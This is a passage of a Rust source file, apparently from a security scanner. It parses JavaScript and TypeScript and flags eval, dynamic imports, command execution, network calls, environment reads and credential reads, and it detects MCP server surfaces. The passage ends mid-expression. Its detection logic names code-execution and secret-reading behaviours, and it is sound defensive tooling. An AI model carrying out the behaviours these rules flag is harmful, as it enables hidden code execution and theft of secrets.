//! JavaScript and TypeScript: one tree-sitter parse per file, imports and aliases resolved to
//! qualified names, then calls classified through the rule table.

use std::collections::{HashMap, HashSet};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Mutex, OnceLock};

use tree_sitter::{Node, Parser, Tree};

use super::rules::{self, RuleTable};
use super::sensitive::credential_location;
use super::{FileAnalysis, StringLit, Surface, SurfaceKind};
use crate::finding::{Category, Finding, Severity};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Dialect {
    JavaScript,
    TypeScript,
    Tsx,
}

fn language(dialect: Dialect) -> tree_sitter::Language {
    match dialect {
        Dialect::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
        Dialect::TypeScript => tree_sitter_typescript::LANGUAGE_TYPESCRIPT.into(),
        Dialect::Tsx => tree_sitter_typescript::LANGUAGE_TSX.into(),
    }
}

pub fn parse(src: &[u8], dialect: Dialect) -> Option<Tree> {
    let mut parser = Parser::new();
    parser.set_language(&language(dialect)).ok()?;
    parser.parse(src, None)
}

/// Files above this size are parsed in pieces, in parallel, when they split cleanly (smaller
/// in unit tests, so they exercise the split without megabytes of input).
#[cfg(not(test))]
const SPLIT_ABOVE: usize = 1 << 20;
#[cfg(test)]
const SPLIT_ABOVE: usize = 64 << 10;
/// The smallest piece worth a thread of its own.
const MIN_PIECE: usize = SPLIT_ABOVE / 4;

/// Parse a file, large bundles in parallel pieces cut at top-level statement boundaries.
/// Each piece is parsed over the whole source with one included range, so every node keeps its
/// position in the file. When any piece parses with an error (a cut in the wrong place, or a file
/// that does not parse cleanly anyway) the whole file is parsed again in one piece, so splitting
/// never changes what is found.
pub fn parse_pieces(src: &[u8], dialect: Dialect) -> Vec<Tree> {
    let threads = std::thread::available_parallelism().map_or(2, |n| n.get());
    let cuts = if src.len() > SPLIT_ABOVE && threads > 1 {
        let pieces = (src.len() / MIN_PIECE).clamp(1, threads * 2);
        split_points(src, pieces)
    } else {
        Vec::new()
    };
    if !cuts.is_empty() {
        let mut bounds = vec![0];
        bounds.extend(&cuts);
        bounds.push(src.len());
        let ranges: Vec<(usize, usize)> = bounds.windows(2).map(|w| (w[0], w[1])).collect();
        let next = AtomicUsize::new(0);
        let trees: Mutex<Vec<(usize, Option<Tree>)>> = Mutex::new(Vec::new());
        std::thread::scope(|scope| {
            for _ in 0..threads.min(ranges.len()) {
                scope.spawn(|| loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(&(start, end)) = ranges.get(i) else {
                        break;
                    };
                    let tree = parse_range(src, dialect, start, end);
                    if let Ok(mut t) = trees.lock() {
                        t.push((i, tree));
                    }
                });
            }
        });
        let mut trees = trees.into_inner().unwrap_or_default();
        trees.sort_by_key(|(i, _)| *i);
        let trees: Vec<Tree> = trees.into_iter().filter_map(|(_, t)| t).collect();
        if trees.len() == ranges.len() && trees.iter().all(|t| !t.root_node().has_error()) {
            return trees;
        }
    }
    parse(src, dialect).into_iter().collect()
}

fn parse_range(src: &[u8], dialect: Dialect, start: usize, end: usize) -> Option<Tree> {
    let point = |offset: usize| {
        let before = &src[..offset];
        let row = before.iter().filter(|&&b| b == b'\n').count();
        let col = offset
            - before
                .iter()
                .rposition(|&b| b == b'\n')
                .map_or(0, |p| p + 1);
        tree_sitter::Point::new(row, col)
    };
    let mut parser = Parser::new();
    parser.set_language(&language(dialect)).ok()?;
    parser
        .set_included_ranges(&[tree_sitter::Range {
            start_byte: start,
            end_byte: end,
            start_point: point(start),
            end_point: point(end),
        }])
        .ok()?;
    parser.parse(src, None)
}

/// Offsets where a new top-level statement starts on a fresh line, about `pieces` apart.
///
/// A light lexer tracks brackets, strings, templates, comments and regular expressions; a cut is
/// a line start at bracket depth zero, after a line whose code ended in `;` or `}`, where the new
/// line begins with a word (`function`, `var`, `class`, an identifier…). A lexer mistake can
/// only make a cut land badly, which the parse then reports as an error (see [`parse_pieces`]).
pub fn split_points(src: &[u8], pieces: usize) -> Vec<usize> {
    if pieces < 2 {
        return Vec::new();
    }
    let step = src.len() / pieces;
    let mut cuts = Vec::new();
    let mut next_at = step;
    let mut depth: i64 = 0;
    // Bracket depths at which an open template literal resumes (`${ … }` nesting).
    let mut templates: Vec<i64> = Vec::new();
    let mut last_sig = b';';
    let mut i = 0;
    let n = src.len();
    while i < n {
        let b = src[i];
        match b {
            b'\n' => {
                if depth == 0
                    && templates.is_empty()
                    && i + 1 >= next_at
                    && matches!(last_sig, b';' | b'}')
                    && src
                        .get(i + 1)
                        .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'_' || c == b'$')
                {
                    cuts.push(i + 1);
                    next_at = i + 1 + step;
                    if cuts.len() + 1 >= pieces {
                        break;
                    }
                }
                i += 1;
                continue;
            }
            b' ' | b'\t' | b'\r' => {
                i += 1;
                continue;
            }
            b'/' if src.get(i + 1) == Some(&b'/') => {
                while i < n && src[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'/' if src.get(i + 1) == Some(&b'*') => {
                i += 2;
                while i + 1 < n && !(src[i] == b'*' && src[i + 1] == b'/') {
                    i += 1;
                }
                i += 2;
                continue;
            }
            b'/' if regex_may_start(last_sig) => {
                // A regular expression literal: skip to its closing slash (classes may hold `/`).
                i += 1;
                let mut class = false;
                while i < n && src[i] != b'\n' {
                    match src[i] {
                        b'\\' => i += 1,
                        b'[' => class = true,
                        b']' => class = false,
                        b'/' if !class => break,
                        _ => {}
                    }
                    i += 1;
                }
                last_sig = b'a';
            }
            b'\'' | b'"' => {
                i += 1;
                while i < n && src[i] != b && src[i] != b'\n' {
                    if src[i] == b'\\' {
                        i += 1;
                    }
                    i += 1;
                }
                last_sig = b'a';
            }
            b'`' => {
                i = skip_template(src, i + 1, &mut templates, depth);
                last_sig = b'a';
                continue;
            }
            b'{' | b'(' | b'[' => {
                depth += 1;
                last_sig = b;
            }
            b'}' if templates.last() == Some(&depth) => {
                // The end of a `${…}`: back inside the template text.
                templates.pop();
                i = skip_template(src, i + 1, &mut templates, depth);
                last_sig = b'a';
                continue;
            }
            b'}' | b')' | b']' => {
                depth -= 1;
                last_sig = b;
            }
            _ => {
                last_sig = if b.is_ascii_alphanumeric() || b == b'_' || b == b'$' {
                    b'a'
                } else {
                    b
                };
                // `return /re/`, `typeof /re/`: a word before a slash that starts a regex.
                if last_sig == b'a' {
                    let start = i;
                    while i < n
                        && (src[i].is_ascii_alphanumeric() || src[i] == b'_' || src[i] == b'$')
                    {
                        i += 1;
                    }
                    if matches!(
                        &src[start..i],
                        b"return"
                            | b"typeof"
                            | b"case"
                            | b"do"
                            | b"else"
                            | b"in"
                            | b"of"
                            | b"new"
                            | b"delete"
                            | b"void"
                            | b"throw"
                            | b"instanceof"
                            | b"yield"
                            | b"await"
                    ) {
                        last_sig = b'(';
                    }
                    continue;
                }
            }
        }
        i += 1;
    }
    cuts
}

/// After `last` (the previous significant byte), does `/` start a regular expression?
fn regex_may_start(last: u8) -> bool {
    !(last == b'a' || matches!(last, b')' | b']' | b'}'))
}

/// Skip template text from `i` to its closing backtick or to a `${` (pushing the depth to
/// resume at); returns the index after what was consumed.
fn skip_template(src: &[u8], mut i: usize, templates: &mut Vec<i64>, depth: i64) -> usize {
    while i < src.len() {
        match src[i] {
            b'\\' => i += 2,
            b'`' => return i + 1,
            b'$' if src.get(i + 1) == Some(&b'{') => {
                templates.push(depth);
                return i + 2;
            }
            _ => i += 1,
        }
    }
    i
}

/// Node kind ids the walk dispatches on (comparing ids, not kind strings, on every node).
struct Kinds {
    import: u16,
    declarator: u16,
    assignment: u16,
    call: u16,
    new: u16,
    member: u16,
    subscript: u16,
    string: u16,
    template: u16,
    functions: [u16; 5],
    object: u16,
    switch_case: u16,
    if_statement: u16,
}

impl Kinds {
    fn of(dialect: Dialect) -> &'static Kinds {
        static KINDS: OnceLock<[Kinds; 3]> = OnceLock::new();
        let all = KINDS.get_or_init(|| {
            [Dialect::JavaScript, Dialect::TypeScript, Dialect::Tsx].map(|d| {
                let l = language(d);
                let id = |k: &str| l.id_for_node_kind(k, true);
                Kinds {
                    import: id("import_statement"),
                    declarator: id("variable_declarator"),
                    assignment: id("assignment_expression"),
                    call: id("call_expression"),
                    new: id("new_expression"),
                    member: id("member_expression"),
                    subscript: id("subscript_expression"),
                    string: id("string"),
                    template: id("template_string"),
                    functions: [
                        id("function_declaration"),
                        id("generator_function_declaration"),
                        id("method_definition"),
                        id("arrow_function"),
                        id("function_expression"),
                    ],
                    object: id("object"),
                    switch_case: id("switch_case"),
                    if_statement: id("if_statement"),
                }
            })
        });
        &all[dialect as usize]
    }
}

/// Field ids the analysis reads (ids, not names: a name lookup scans the grammar's table).
#[derive(Debug)]
struct Fields {
    alias: u16,
    arguments: u16,
    condition: u16,
    consequence: u16,
    function: u16,
    index: u16,
    key: u16,
    left: u16,
    name: u16,
    object: u16,
    operator: u16,
    parameter: u16,
    parameters: u16,
    property: u16,
    right: u16,
    source: u16,
    value: u16,
}

impl Fields {
    fn of(dialect: Dialect) -> &'static Fields {
        static FIELDS: OnceLock<[Fields; 3]> = OnceLock::new();
        let all = FIELDS.get_or_init(|| {
            [Dialect::JavaScript, Dialect::TypeScript, Dialect::Tsx].map(|d| {
                let l = language(d);
                // A name the grammar lacks maps to 0, which matches no child.
                let id = |n: &str| l.field_id_for_name(n).map_or(0, |f| f.get());
                Fields {
                    alias: id("alias"),
                    arguments: id("arguments"),
                    condition: id("condition"),
                    consequence: id("consequence"),
                    function: id("function"),
                    index: id("index"),
                    key: id("key"),
                    left: id("left"),
                    name: id("name"),
                    object: id("object"),
                    operator: id("operator"),
                    parameter: id("parameter"),
                    parameters: id("parameters"),
                    property: id("property"),
                    right: id("right"),
                    source: id("source"),
                    value: id("value"),
                }
            })
        });
        &all[dialect as usize]
    }
}

/// Globals that name an API without an import.
const GLOBALS: &[&str] = &[
    "fetch",
    "eval",
    "Function",
    "process",
    "require",
    "setTimeout",
    "setInterval",
    "XMLHttpRequest",
    "WebSocket",
    "EventSource",
    "JSON",
    "Object",
    "Buffer",
    "String",
    "atob",
];

/// Analyse one JavaScript/TypeScript file.
pub fn analyze(path: &str, src: &[u8], dialect: Dialect) -> FileAnalysis {
    let trees = parse_pieces(src, dialect);
    if trees.is_empty() {
        return FileAnalysis::default();
    }
    let mut a = Analyzer {
        path,
        f: Fields::of(dialect),
        src,
        table: rules::javascript(),
        scopes: Scopes::default(),
        assigned: HashMap::new(),
        decls: HashMap::new(),
        sdk_named: false,
        findings: Vec::new(),
    };
    // The MCP surface is only looked for in files that name an MCP SDK or call its distinctive
    // registration methods (a cheap byte search); the generic `tool`/`prompt`/`resource` names
    // count only in files that name the SDK.
    let sdk_named = ["modelcontextprotocol", "McpServer", "FastMCP", "fastmcp"]
        .iter()
        .any(|needle| contains(src, needle.as_bytes()));
    let mcp_file = sdk_named
        || [
            "registerTool",
            "registerPrompt",
            "registerResource",
            "inputSchema",
        ]
        .iter()
        .any(|needle| contains(src, needle.as_bytes()));
    a.sdk_named = sdk_named;
    // One walk collects the nodes of interest in document order; bindings are resolved first
    // (imports, require, aliases, destructuring), then calls and environment reads classified.
    let k = Kinds::of(dialect);
    let mut binders = Vec::new();
    let mut uses = Vec::new();
    let mut strings = Vec::new();
    let mut funcs = Vec::new();
    let mut objects = Vec::new();
    let mut branches = Vec::new();
    let file_scope = (0, src.len());
    // Enclosing function ranges of the node being visited (function scope; `let`/`const` are
    // treated as function-scoped too).
    let mut stack: Vec<(usize, usize)> = Vec::new();
    for tree in &trees {
        preorder(tree.root_node(), |n| {
            let id = n.kind_id();
            let start = n.start_byte();
            while stack.last().is_some_and(|&(_, end)| end <= start) {
                stack.pop();
            }
            let scope = stack.last().copied().unwrap_or(file_scope);
            if id == k.string || id == k.template {
                strings.push(n);
            } else if k.functions.contains(&id) {
                funcs.push(n);
                binders.push((n, scope));
                stack.push((start, n.end_byte()));
            } else if mcp_file && id == k.object {
                objects.push(n);
            } else if mcp_file && (id == k.switch_case || id == k.if_statement) {
                branches.push(n);
            } else if id == k.import || id == k.assignment {
                binders.push((n, if id == k.import { file_scope } else { scope }));
            } else if id == k.declarator {
                binders.push((n, scope));
                uses.push(n);
            } else if id == k.call || id == k.new || id == k.member || id == k.subscript {
                uses.push(n);
            }
        });
    }
    // Declare every name first (so inner names shadow outer ones), then resolve in order.
    for &(n, scope) in &binders {
        a.declare(n, scope, k);
    }
    a.scopes.finish();
    for &(n, _) in &binders {
        a.bind(n);
    }
    for &n in &uses {
        a.classify(n);
    }
    let strings = strings
        .into_iter()
        .filter_map(|n| {
            let value = a.literal_text(n)?;
            let p = n.start_position();
            Some(StringLit {
                value,
                line: p.row as u32 + 1,
                column: p.column as u32 + 1,
            })
        })
        .collect();
    // Top-level string constants, for surface names other files give by constant.
    let constants: Vec<(String, String)> = binders
        .iter()
        .filter(|&&(n, scope)| scope == file_scope && n.kind_id() == k.declarator)
        .filter_map(|&(n, _)| {
            let name = n.child_by_field_id(a.f.name)?;
            let value = n.child_by_field_id(a.f.value)?;
            if name.kind() != "identifier" || !matches!(value.kind(), "string" | "template_string")
            {
                return None;
            }
            let v = a.string_value(value)?;
            (!v.is_empty() && v.len() <= 200).then(|| (a.text(name).to_string(), v))
        })
        .collect();
    let mut name_refs = Vec::new();
    let mut dispatch = Vec::new();
    let surface = if mcp_file {
        for &d in &uses {
            if d.kind_id() != k.declarator {
                continue;
            }
            if let (Some(name), Some(value)) = (
                d.child_by_field_id(a.f.name),
                d.child_by_field_id(a.f.value),
            ) {
                if name.kind() == "identifier" {
                    a.decls.insert(a.text(name), value);
                }
            }
        }
        let calls: Vec<Node> = uses
            .iter()
            .copied()
            .filter(|n| n.kind_id() == k.call)
            .collect();
        let found = a.surface(&calls, &funcs, &objects, &branches);
        name_refs = found.name_refs;
        dispatch = found.dispatch;
        found.surface
    } else {
        Vec::new()
    };
    FileAnalysis {
        findings: a.findings,
        surface,
        strings,
        constants,
        name_refs,
        dispatch,
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}

/// Iterative pre-order walk (minified code nests deeply; no recursion).
fn preorder<'t>(root: Node<'t>, mut visit: impl FnMut(Node<'t>)) {
    let mut cursor = root.walk();
    loop {
        visit(cursor.node());
        if cursor.goto_first_child() {
            continue;
        }
        loop {
            if cursor.goto_next_sibling() {
                break;
            }
            if !cursor.goto_parent() {
                return;
            }
        }
    }
}

struct Analyzer<'a> {
    path: &'a str,
    f: &'static Fields,
    src: &'a [u8],
    table: &'static RuleTable,
    /// Declared names by scope, with what each stands for.
    scopes: Scopes<'a>,
    /// Names assigned an API without a declaration in sight (`x = require('cp')`), file-wide.
    assigned: HashMap<&'a str, String>,
    /// `const name = value` declarations (MCP files only), for names and configs given by name.
    decls: HashMap<&'a str, Node<'a>>,
    /// Whether the file names an MCP SDK.
    sdk_named: bool,
    findings: Vec<Finding>,
}

/// `node:fs` → `fs`, `fs/promises` → `fs.promises`.
fn module_name(spec: &str) -> String {
    let s = spec.strip_prefix("node:").unwrap_or(spec);
    if s.starts_with('@') {
        // `@scope/pkg/sub` keeps the scope's slash.
        let mut parts = s.splitn(3, '/');
        let scope = parts.next().unwrap_or_default();
        let pkg = parts.next().unwrap_or_default();
        match parts.next() {
            Some(rest) => format!("{scope}/{pkg}.{}", rest.replace('/', ".")),
            None => format!("{scope}/{pkg}"),
        }
    } else {
        s.replace('/', ".")
    }
}

impl<'a> Analyzer<'a> {
    fn text(&self, n: Node) -> &'a str {
        std::str::from_utf8(&self.src[n.byte_range()]).unwrap_or("")
    }

    /// The value of a plain string literal (no template substitutions).
    fn string_value(&self, n: Node) -> Option<String> {
        match n.kind() {
            "string" => {
                let t = self.text(n);
                Some(
                    t.get(1..t.len().saturating_sub(1))
                        .unwrap_or("")
                        .to_string(),
                )
            }
            "template_string" if n.named_child_count() == 0 || !has_substitution(n) => {
                let t = self.text(n);
                Some(
                    t.get(1..t.len().saturating_sub(1))
                        .unwrap_or("")
                        .to_string(),
                )
            }
            _ => None,
        }
    }

    /// The static prefix of a string or template (`https://api.x.com/${p}` → `https://api.x.com/`).
    fn string_prefix(&self, n: Node) -> Option<String> {
        if let Some(s) = self.string_value(n) {
            return Some(s);
        }
        if n.kind() == "template_string" {
            let t = self.text(n);
            let inner = t.get(1..).unwrap_or("");
            return Some(inner.split("${").next().unwrap_or("").to_string());
        }
        None
    }

    /// What an expression stands for, as a qualified API name.
    fn qualify(&self, n: Node) -> Option<String> {
        match n.kind() {
            "identifier" => {
                let name = self.text(n);
                match self.scopes.find(name, n.start_byte()) {
                    Some(slot) => slot.q.clone(),
                    None => match self.assigned.get(name) {
                        Some(q) => Some(q.clone()),
                        None if GLOBALS.contains(&name) => Some(name.to_string()),
                        None => None,
                    },
                }
            }
            "member_expression" => {
                let obj = n.child_by_field_id(self.f.object)?;
                let prop = n.child_by_field_id(self.f.property)?;
                if prop.kind() != "property_identifier" {
                    return None;
                }
                let prop = self.text(prop);
                if obj.kind() == "identifier"
                    && matches!(self.text(obj), "globalThis" | "window" | "global" | "self")
                    && self.is_free(obj)
                {
                    return GLOBALS.contains(&prop).then(|| prop.to_string());
                }
                Some(format!("{}.{prop}", self.qualify(obj)?))
            }
            "subscript_expression" => {
                let obj = n.child_by_field_id(self.f.object)?;
                let idx = n.child_by_field_id(self.f.index)?;
                let key = self.string_value(idx)?;
                Some(format!("{}.{key}", self.qualify(obj)?))
            }
            "parenthesized_expression" | "await_expression" | "non_null_expression" => {
                self.qualify(n.named_child(0)?)
            }
            "as_expression" | "satisfies_expression" => self.qualify(n.named_child(0)?),
            "call_expression" => {
                let callee = n.child_by_field_id(self.f.function)?;
                let args = n.child_by_field_id(self.f.arguments)?;
                let first = args.named_child(0);
                // require('mod') and import('mod') stand for the module.
                if callee.kind() == "import"
                    || (callee.kind() == "identifier"
                        && self.text(callee) == "require"
                        && self.is_free(callee))
                {
                    return Some(module_name(&self.string_value(first?)?));
                }
                let q = self.qualify(callee)?;
                self.table.returns(&q).map(str::to_string)
            }
            _ => None,
        }
    }

    /// An identifier no declaration in the file covers (a global, or `require`).
    fn is_free(&self, id: Node) -> bool {
        let name = self.text(id);
        self.scopes.find(name, id.start_byte()).is_none() && !self.assigned.contains_key(name)
    }

    /// Declare the names a binder introduces, in the scope they belong to.
    fn declare(&mut self, n: Node<'a>, scope: (usize, usize), k: &Kinds) {
        let id = n.kind_id();
        if k.functions.contains(&id) {
            // A function's own name lives in the enclosing scope; its parameters in its own.
            if matches!(
                n.kind(),
                "function_declaration" | "generator_function_declaration"
            ) {
                if let Some(name) = n.child_by_field_id(self.f.name) {
                    self.scopes.declare(self.text(name), scope);
                }
            }
            let own = (n.start_byte(), n.end_byte());
            let params = n
                .child_by_field_id(self.f.parameters)
                .or_else(|| n.child_by_field_id(self.f.parameter));
            if let Some(p) = params {
                self.declare_pattern(p, own);
            }
        } else if id == k.declarator {
            if let Some(name) = n.child_by_field_id(self.f.name) {
                self.declare_pattern(name, scope);
            }
        } else if id == k.import {
            let mut names = Vec::new();
            preorder_while(n, |x| {
                if x.kind() == "identifier"
                    && x.parent().is_some_and(|p| {
                        p.kind() != "import_specifier"
                            || p.child_by_field_id(self.f.alias) == Some(x)
                            || p.child_by_field_id(self.f.alias).is_none()
                    })
                {
                    names.push(self.text(x));
                }
                true
            });
            for name in names {
                self.scopes.declare(name, scope);
            }
        }
    }

    /// Every name a parameter list or binding pattern declares.
    fn declare_pattern(&mut self, p: Node<'a>, scope: (usize, usize)) {
        if p.kind() == "identifier" {
            self.scopes.declare(self.text(p), scope);
            return;
        }
        let mut names = Vec::new();
        let mut budget = 512;
        preorder_while(p, |x| {
            budget -= 1;
            match x.kind() {
                "identifier" | "shorthand_property_identifier_pattern" => {
                    // Default values (`a = b`) name other things: only the left side declares.
                    let is_default_value = x.parent().is_some_and(|par| {
                        matches!(
                            par.kind(),
                            "assignment_pattern" | "object_assignment_pattern"
                        ) && par.child_by_field_id(self.f.right) == Some(x)
                    });
                    if !is_default_value {
                        names.push(self.text(x));
                    }
                }
                _ => {}
            }
            budget > 0
        });
        for name in names {
            self.scopes.declare(name, scope);
        }
    }

    /// The slot a declaration at `at` fills.
    fn slot_mut(&mut self, name: &str, at: usize) -> Option<&mut Slot> {
        self.scopes.find_mut(name, at)
    }

    fn bind(&mut self, n: Node) {
        match n.kind() {
            "import_statement" => self.bind_import(n),
            "variable_declarator" => {
                let Some(name) = n.child_by_field_id(self.f.name) else {
                    return;
                };
                let Some(value) = n.child_by_field_id(self.f.value) else {
                    return;
                };
                if name.kind() == "identifier" {
                    let path = if matches!(
                        value.kind(),
                        "string" | "template_string" | "call_expression" | "binary_expression"
                    ) {
                        self.static_path(value, 0)
                    } else {
                        None
                    };
                    let decoded = matches!(value.kind(), "call_expression" | "member_expression")
                        && self.decoder_in(value);
                    let q = self.qualify(value).or_else(|| self.wrapped_api(value));
                    if let Some(slot) = self.slot_mut(self.text(name), name.start_byte()) {
                        slot.path = path;
                        slot.decoded = decoded;
                        slot.q = q;
                    }
                    return;
                }
                let Some(q) = self.qualify(value) else { return };
                self.bind_pattern(name, &q);
            }
            "assignment_expression" => {
                let (Some(left), Some(right)) = (
                    n.child_by_field_id(self.f.left),
                    n.child_by_field_id(self.f.right),
                ) else {
                    return;
                };
                if left.kind() == "identifier" {
                    let q = self.qualify(right).or_else(|| self.wrapped_api(right));
                    let name = self.text(left);
                    match self.slot_mut(name, left.start_byte()) {
                        Some(slot) => slot.q = q,
                        None => {
                            if let Some(q) = q {
                                self.assigned.insert(name, q);
                            }
                        }
                    }
                }
            }
            _ => {}
        }
    }

    /// A wrapper around a known API stands for it: `wrapWithRetry(fetch, …)`,
    /// `promisify(exec)`, `fetchCookie(undiciFetch, jar)`.
    fn wrapped_api(&self, value: Node) -> Option<String> {
        let mut v = value;
        while matches!(v.kind(), "await_expression" | "parenthesized_expression") {
            v = v.named_child(0)?;
        }
        if v.kind() != "call_expression" {
            return None;
        }
        let args = v.child_by_field_id(self.f.arguments)?;
        let mut c = args.walk();
        let found = args.named_children(&mut c).find_map(|a| {
            if !matches!(a.kind(), "identifier" | "member_expression") {
                return None;
            }
            let q = self.qualify(a)?;
            let known = self.table.lookup(&q, false).is_some() || self.table.reads(&q);
            known.then_some(q)
        });
        found
    }

    fn set_binding(&mut self, id: Node, q: String) {
        let name = self.text(id);
        if let Some(slot) = self.slot_mut(name, id.start_byte()) {
            slot.q = Some(q);
        }
    }

    fn bind_pattern(&mut self, pattern: Node, q: &str) {
        match pattern.kind() {
            "identifier" => self.set_binding(pattern, q.to_string()),
            "object_pattern" => {
                let mut c = pattern.walk();
                for p in pattern.named_children(&mut c) {
                    match p.kind() {
                        "shorthand_property_identifier_pattern" => {
                            let name = self.text(p);
                            self.set_binding(p, format!("{q}.{name}"));
                        }
                        "pair_pattern" => {
                            let (Some(key), Some(value)) = (
                                p.child_by_field_id(self.f.key),
                                p.child_by_field_id(self.f.value),
                            ) else {
                                continue;
                            };
                            let key = match key.kind() {
                                "property_identifier" => self.text(key).to_string(),
                                _ => match self.string_value(key) {
                                    Some(k) => k,
                                    None => continue,
                                },
                            };
                            self.bind_pattern(value, &format!("{q}.{key}"));
                        }
                        "object_assignment_pattern" => {
                            if let Some(left) = p.child_by_field_id(self.f.left) {
                                if left.kind() == "shorthand_property_identifier_pattern" {
                                    let name = self.text(left);
                                    self.set_binding(left, format!("{q}.{name}"));
                                }
                            }
                        }
                        _ => {}
                    }
                }
            }
            _ => {}
        }
    }

    fn bind_import(&mut self, n: Node) {
        let Some(source) = n
            .child_by_field_id(self.f.source)
            .and_then(|s| self.string_value(s))
        else {
            return;
        };
        let module = module_name(&source);
        let mut c = n.walk();
        for clause in n.named_children(&mut c) {
            if clause.kind() != "import_clause" {
                continue;
            }
            let mut c2 = clause.walk();
            for part in clause.named_children(&mut c2) {
                match part.kind() {
                    // `import x from 'm'`: the default export; for CommonJS modules the module itself.
                    "identifier" => self.set_binding(part, module.clone()),
                    "namespace_import" => {
                        if let Some(id) = part.named_child(0) {
                            self.set_binding(id, module.clone());
                        }
                    }
                    "named_imports" => {
                        let mut c3 = part.walk();
                        for spec in part.named_children(&mut c3) {
                            if spec.kind() != "import_specifier" {
                                continue;
                            }
                            let Some(name) = spec.child_by_field_id(self.f.name) else {
                                continue;
                            };
                            let local = spec.child_by_field_id(self.f.alias).unwrap_or(name);
                            let imported = self
                                .string_value(name)
                                .unwrap_or_else(|| self.text(name).to_string());
                            let q = if imported == "default" {
                                module.clone()
                            } else {
                                format!("{module}.{imported}")
                            };
                            self.set_binding(local, q);
                        }
                    }
                    _ => {}
                }
            }
        }
    }

    fn finding(
        &self,
        rule: &str,
        category: Category,
        severity: Severity,
        n: Node,
        message: String,
    ) -> Finding {
        let start = n.start_position();
        let mut f = Finding::new(rule, category, severity, self.path, message);
        f.line = Some(start.row as u32 + 1);
        f.column = Some(start.column as u32 + 1);
        f.end_line = Some(n.end_position().row as u32 + 1);
        f
    }

    fn classify(&mut self, n: Node) {
        match n.kind() {
            "call_expression" => self.classify_call(n, false),
            "new_expression" => self.classify_call(n, true),
            "member_expression" | "subscript_expression" => self.classify_env(n),
            "variable_declarator" => self.classify_env_destructure(n),
            _ => {}
        }
    }

    fn classify_call(&mut self, n: Node, is_new: bool) {
        let callee = n.child_by_field_name(if is_new { "constructor" } else { "function" });
        let Some(callee) = callee else { return };
        let args = n.child_by_field_id(self.f.arguments);
        let first = args.and_then(|a| a.named_child(0));

        // Computed require()/import(): code chosen at run time.
        let is_require =
            callee.kind() == "identifier" && self.text(callee) == "require" && self.is_free(callee);
        if (is_require || callee.kind() == "import") && !is_new {
            if let Some(arg) = first {
                if self.string_value(arg).is_none() {
                    let f = self
                        .finding(
                            "js.eval.dynamic-import",
                            Category::Eval,
                            Severity::Medium,
                            n,
                            "module name computed at run time (require/import of a non-literal)"
                                .into(),
                        )
                        .with("expression", clip(self.text(arg)));
                    self.findings.push(f);
                }
            }
            return;
        }

        let Some(q) = self.qualify(callee) else {
            return;
        };
        if matches!(q.as_str(), "eval" | "Function") {
            self.decode_exec(n, args, &q);
        }
        if self.table.reads(&q) {
            self.sensitive_read(n, first, &q);
        }
        match q.as_str() {
            "eval" => {
                let f = self.finding(
                    "js.eval.eval",
                    Category::Eval,
                    Severity::High,
                    n,
                    "eval() runs a string as code".into(),
                );
                let f = match first {
                    Some(a) => f.with("argument", clip(self.text(a))),
                    None => f,
                };
                self.findings.push(f);
                return;
            }
            "Function" => {
                // `Function("return this")()` and friends: code that is all in the source is
                // visible to the reviewer; code built at run time is not.
                let constant = args.is_some_and(|a| {
                    let mut c = a.walk();
                    let all = a
                        .named_children(&mut c)
                        .filter(|x| x.kind() != "comment")
                        .all(|x| self.string_value(x).is_some());
                    all
                });
                let f = if constant {
                    self.finding(
                        "js.eval.function-constant",
                        Category::Eval,
                        Severity::Low,
                        n,
                        "Function constructor with constant code".into(),
                    )
                    .with("code", clip(args.map_or("", |a| self.text(a))))
                } else {
                    self.finding(
                        "js.eval.function",
                        Category::Eval,
                        Severity::High,
                        n,
                        "Function constructor builds code from strings".into(),
                    )
                };
                self.findings.push(f);
                return;
            }
            "setTimeout" | "setInterval" => {
                if let Some(a) = first {
                    if matches!(a.kind(), "string" | "template_string" | "binary_expression") {
                        let f = self
                            .finding(
                                "js.eval.string-timer",
                                Category::Eval,
                                Severity::High,
                                n,
                                format!("{q}() with a string argument evaluates it as code"),
                            )
                            .with("argument", clip(self.text(a)));
                        self.findings.push(f);
                    }
                }
                return;
            }
            _ => {}
        }
        if let Some(rule) = self.table.lookup(&q, is_new) {
            if matches!(rule.category, Category::Exec | Category::Eval) {
                self.decode_exec(n, args, &q);
            }
            let mut f = self.finding(
                &rule.id,
                rule.category,
                rule.severity,
                n,
                rule.message.clone(),
            );
            f = f.with("api", q.clone());
            if let Some(a) = first {
                if let Some(s) = self.string_prefix(a) {
                    match rule.category {
                        Category::Network => {
                            if let Some(host) = url::Url::parse(&s)
                                .ok()
                                .and_then(|u| u.host_str().map(str::to_string))
                            {
                                f = f.with("host", host);
                            }
                            f = f.with("url", clip(&s));
                        }
                        Category::Exec => f = f.with("command", clip(&s)),
                        Category::FsWrite => f = f.with("target", clip(&s)),
                        _ => {}
                    }
                }
            }
            self.findings.push(f);
        }
    }

    /// `process.env.X`, `process.env['X']`, `process.env[k]`, and whole-object uses.
    fn classify_env(&mut self, n: Node) {
        let Some(obj) = n.child_by_field_id(self.f.object) else {
            return;
        };
        if self.qualify(obj).as_deref() == Some("process.env") {
            let name = match n.kind() {
                "member_expression" => n
                    .child_by_field_id(self.f.property)
                    .map(|p| self.text(p).to_string()),
                _ => n
                    .child_by_field_id(self.f.index)
                    .and_then(|i| self.string_value(i)),
            };
            let f = match name {
                Some(var) => self
                    .finding(
                        "js.env.read",
                        Category::EnvRead,
                        Severity::Low,
                        n,
                        format!("reads environment variable {var}"),
                    )
                    .with("variable", var),
                None => self.finding(
                    "js.env.computed",
                    Category::EnvRead,
                    Severity::Medium,
                    n,
                    "reads an environment variable chosen at run time".into(),
                ),
            };
            self.findings.push(f);
            return;
        }
        // Whole-environment use: `process.env` itself, not as the object of a member access
        // and not destructured.
        if n.kind() != "member_expression" || self.qualify(n).as_deref() != Some("process.env") {
            return;
        }
        let Some(parent) = n.parent() else { return };
        let is_object_of_parent =
            matches!(parent.kind(), "member_expression" | "subscript_expression")
                && parent.child_by_field_id(self.f.object) == Some(n);
        // Destructuring and plain aliases (`const e = process.env`) are followed through
        // their bindings instead.
        let destructured = parent.kind() == "variable_declarator"
            && parent.child_by_field_id(self.f.value) == Some(n)
            && parent
                .child_by_field_id(self.f.name)
